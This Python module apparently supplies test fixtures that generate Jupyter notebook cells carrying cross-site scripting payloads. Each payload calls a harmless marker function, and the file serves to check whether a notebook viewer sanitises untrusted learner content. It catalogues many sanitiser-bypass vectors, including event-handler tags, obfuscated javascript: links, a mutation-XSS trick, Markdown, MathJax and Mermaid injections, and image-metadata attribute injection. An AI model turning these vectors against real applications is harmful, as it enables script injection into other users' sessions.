"""Scripts that a learner could plant in a notebook, each in one way.

``stolen('NAME')`` is what a payload runs, or runs when it is clicked.
"""

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

# In HTML: in an output, and in text.
HTML = {
    "script": "<script>stolen('{}')</script>",
    "picture": "<img src=x onerror=\"stolen('{}')\">",
    "picture_in_capitals": "<IMG SRC=x ONERROR=\"stolen('{}')\">",
    "drawing": "<svg onload=\"stolen('{}')\"></svg>",
    "drawing_with_link": "<svg><a xlink:href=\"javascript:stolen('{}')\"><text>x</text></a></svg>",
    "drawing_in_motion": "<svg><animate onbegin=\"stolen('{}')\" attributeName=x dur=1s></svg>",
    "formula_with_link": "<math><mtext><a href=\"javascript:stolen('{}')\">x</a></mtext></math>",
    "details": "<details open ontoggle=\"stolen('{}')\"><summary>x</summary></details>",
    "video": "<video><source onerror=\"stolen('{}')\" src=x></video>",
    "audio": "<audio src=x onerror=\"stolen('{}')\"></audio>",
    "focus": "<input autofocus onfocus=\"stolen('{}')\">",
    "hover": "<span onmouseover=\"stolen('{}')\">x</span>",
    "button": "<form><button formaction=\"javascript:stolen('{}')\">x</button></form>",
    "form": "<form action=\"javascript:stolen('{}')\"><input type=submit></form>",
    "frame": "<iframe src=\"javascript:parent.stolen('{}')\"></iframe>",
    "frame_with_text": "<iframe srcdoc=\"<script>parent.stolen('{}')</script>\"></iframe>",
    "style_sheet": "<style onload=\"stolen('{}')\"></style>",
    "animation": "<style>@keyframes k {{}}</style>"
    "<b style='animation: k 1s' onanimationstart=\"stolen('{}')\">x</b>",
    "link": "<a href=\"javascript:stolen('{}')\">x</a>",
    "link_with_tab": "<a href=\"java\tscript:stolen('{}')\">x</a>",
    "link_with_entities": "<a href=\"&#106;avascript&colon;stolen('{}')\">x</a>",
    "link_with_control": "<a href=\"\x01javascript:stolen('{}')\">x</a>",
    "map": "<map name=m><area href=\"javascript:stolen('{}')\" shape=default></map>",
    "comment": "<!--><img src=x onerror=\"stolen('{}')\">-->",
    "table": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;&lt;img src=1 onerror=stolen('{}')&gt;\">",
}
MARKDOWN = {
    "link": "[x](javascript:stolen('{}'))",
    "link_in_capitals": "[x](JaVaScRiPt:stolen('{}'))",
    "link_with_entity": "[x](java&#115;cript:stolen('{}'))",
    "link_with_prefix": "[x](files/javascript:stolen('{}'))",
    "link_by_reference": "[x]\n\n[x]: <javascript:stolen('{}')>",
    "diagram": "```mermaid\n<img src=x onerror=\"stolen('{}')\">\n```",
    "formula": "$$\\href{{javascript:stolen('{}')}}{{x}}$$",
    "formula_of_mathml": "$$\\mmlToken{{mi}}[href=\"javascript:stolen('{}')\"]{{x}}$$",
    "closed_paragraph": "x</p></div></div><img src=x onerror=\"stolen('{}')\">",
}
SIZE = "1 onerror=stolen('{}')"
# The data of an output, and its metadata.
OUTPUTS = {
    "png_width": ({"image/png": "iVBORw0KGgo="}, {"image/png": {"width": SIZE}}),
    "png_height": ({"image/png": "iVBORw0KGgo="}, {"image/png": {"height": SIZE}}),
    "jpeg_width": ({"image/jpeg": "iVBORw0KGgo="}, {"image/jpeg": {"width": SIZE}}),
    "jpeg_height": ({"image/jpeg": "iVBORw0KGgo="}, {"image/jpeg": {"height": SIZE}}),
    "width_for_all": ({"image/png": "iVBORw0KGgo="}, {"width": SIZE}),
    "script": ({"application/javascript": "stolen('{}')"}, {}),
    "markdown": ({"text/markdown": "[x](javascript:stolen('{}'))"}, {}),
    "formula": ({"text/latex": "$$\\href{{javascript:stolen('{}')}}{{x}}$$"}, {}),
    "alone": (
        {"text/html": "<script>parent.stolen('{}')</script>"},
        {"text/html": {"isolated": True}},
    ),
}


def _named(value, name):
    """Return a value whose texts name the payload."""
    if isinstance(value, dict):
        return {key: _named(part, name) for key, part in value.items()}
    return value.format(name) if isinstance(value, str) else value


def payloads():
    """Return {name: a cell that holds this payload, code cells with the output}."""
    outputs = {f"output_{name}": parts for name, parts in OUTPUTS.items()}
    outputs |= {f"html_{name}": ({"text/html": html}, {}) for name, html in HTML.items()}
    texts = {f"text_{name}": html for name, html in HTML.items()}
    texts |= {f"markdown_{name}": text for name, text in MARKDOWN.items()}
    cells = {}
    for name, (data, metadata) in outputs.items():
        data, metadata = _named(data, name), _named(metadata, name)
        source = f"publish({data!r}, {metadata!r})"
        output = new_output("display_data", data, metadata=metadata)
        cells[name] = new_code_cell(source, outputs=[output])
    for name, text in texts.items():
        cells[name] = new_markdown_cell(text.format(name))
    return cells
